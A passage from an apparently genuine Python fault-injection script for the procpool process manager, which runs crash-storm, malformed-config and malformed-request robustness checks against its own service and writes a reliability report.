        check("admin", "%d malformed requests in %.0f s, by answer" % (count, took), shown, "no 5xx", fivexx == 0)
        check("admin", "slowloris connections held meanwhile", loris, "(shown)", True)
        check("admin", "GET /status during the abuse", "%d of %d answered" % (status_ok, status_checks), "all",
              status_ok == status_checks)
        check("admin", "requests to the instances meanwhile: failed", "%d of %d" % (served["failed"], served["ok"] + served["failed"]),
              "0", served["failed"] == 0 and served["ok"] > 0)
        check("admin", "manager alive, instances' pids unchanged", "yes" if pool.proc.poll() is None and
              sorted(i["pid"] for i in pool.instances()) == pids else "no", "yes",
              pool.proc.poll() is None and sorted(i["pid"] for i in pool.instances()) == pids)
        code = pool.stop()
        check("admin", "SIGTERM afterwards: exit code, processes left", "%s, %d" % (code, len(tagged())), "0, 0",
              code == 0 and not tagged())
    finally:
        pool.kill()
        kill_tagged()


# ---------------------------------------------------------------- report

def write_report(short, took):
    lines = ["# Reliability: procpool under fault injection\n",
             "Generated by `make chaos` (`bench/chaos.py%s`) on %s, in %.0f s. Every figure is measured from "
             "outside the manager: `/proc/PID/status` (threads), `/proc/PID/fd` (descriptors), `jcmd PID GC.run` "
             "then `jstat -gc PID` (heap after a full GC), `/proc` scans for zombies and for every process whose "
             "command line carries the run's tag, and the admin API. CI runs the short form (`--short`, about a "
             "fifth of each part) on every change.\n" % (" --short" if short else "", time.strftime("%Y-%m-%d %H:%M UTC", time.gmtime()), took)]
    parts = [("storm", "1. A crash storm",
              "20 instances of the C search sample with HTTP probes every second and restarts after 10 ms to "
              "100 ms; the script SIGKILLs a random live instance every 10 ms. The footprint is taken after a "
              "warm-up of a tenth of the crashes (class loading and JIT are not leaks) and again at the end."),
             ("sigkill", "2. The manager SIGKILLed mid-storm",
              "The same pool, a storm in the background, then SIGKILL to procpool and a second procpool on the "
              "same state dir. Once with `children-die-with-manager = false`, where only the second manager can find "
              "the first run's children (the state file's snapshot and journal, and the run id every child carries "
              "in `PROCPOOL_RUN`), once with the default `true`, where the kernel also sends them SIGTERM."),
             ("hostile", "3. Hostile children",
              "Six services of `procpool-cli/src/test/programs/fake_service.py`: one forks a long-lived grandchild, one forks one that "
              "leaves its process group and session with `setsid` (a daemonized helper), one ignores "
              "SIGTERM (stop.timeout 2s, then SIGKILL to the group), one closes stdout and stderr, one writes its "
              "output as fast as it can (log max-size 1 MiB, keep 2), and one forks a grandchild and exits the "
              "moment it gets SIGTERM; beside them, a seventh exits the moment it starts (`sh -c 'exit 3'`, "
              "restarted every 10 to 20 ms), so the stop also meets a crash loop. The log cap is enforced by "
              "copytruncate after the file passes max-size, so a fast writer overshoots by what it writes before "
              "the rotator acts."),
             ("configs", "4. Malformed and hostile configurations",
              "Wrong types, duplicate ports, huge numbers, unknown keys (typos), shell metacharacters, missing "
              "keys, bad service names, syntax errors, broken seed JSON, bad encodings, directories, missing files "
              "and dangling symlinks, each given to `procpool run`. Each file also has a valid service whose "
              "command would create a marker file if anything were started."),
             ("admin", "5. Malformed admin API requests",
              "Raw requests over TCP: bad paths, bad numbers, bodies up to 5 MiB, wrong and unknown methods, "
              "oversized headers and URIs, bad HTTP versions, random bytes; meanwhile slowloris connections send "
              "a request head one byte every half second, and a client of the pool's own instances checks they "
              "keep answering.")]
    for key, title, text in parts:
        rows = [r for r in results if r[0] == key]
        if not rows:
            continue
        lines.append("## %s\n\n%s\n" % (title, text))
        lines.append("| check | measured | target | |\n|---|---|---|---|")
        for _, name, measured, target, ok in rows:
            lines.append("| %s | %s | %s | %s |" % (name, measured.replace("|", "/"), target, "pass" if ok else "**FAIL**"))
        lines.append("")
    if os.path.exists(os.path.join(ROOT, "bench", "reliability-notes.md")):
        with open(os.path.join(ROOT, "bench", "reliability-notes.md")) as f:
            lines.append(f.read())
    with open(os.path.join(ROOT, "docs", "reliability.md"), "w") as f:
        f.write("\n".join(lines).rstrip() + "\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--short", action="store_true", help="the CI form: about a fifth of each part")
    ap.add_argument("--only", default="", help="comma-separated parts: storm,sigkill,hostile,configs,admin")
    ap.add_argument("--report", action="store_true", help="write docs/reliability.md")
    args = ap.parse_args()
    for path in (JAR, SAMPLE):
        if not os.path.exists(path):
            sys.exit("build first: make build (needs %s)" % os.path.relpath(path, ROOT))
    shutil.rmtree(WORK, ignore_errors=True)
    os.makedirs(WORK)
    parts = {"storm": storm, "sigkill": sigkill, "hostile": hostile, "configs": configs, "admin": admin}
    chosen = [p for p in parts if not args.only or p in args.only.split(",")]
    t0 = time.monotonic()
    try:
        for p in chosen:
            print("== %s" % p, flush=True)
            parts[p](args.short)
    finally:
        kill_tagged()
    took = time.monotonic() - t0
    failed = [r for r in results if not r[4]]
    print("%d checks, %d failed, %.0f s" % (len(results), len(failed), took))
    if args.report:
        write_report(args.short, took)
        print("wrote docs/reliability.md")
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
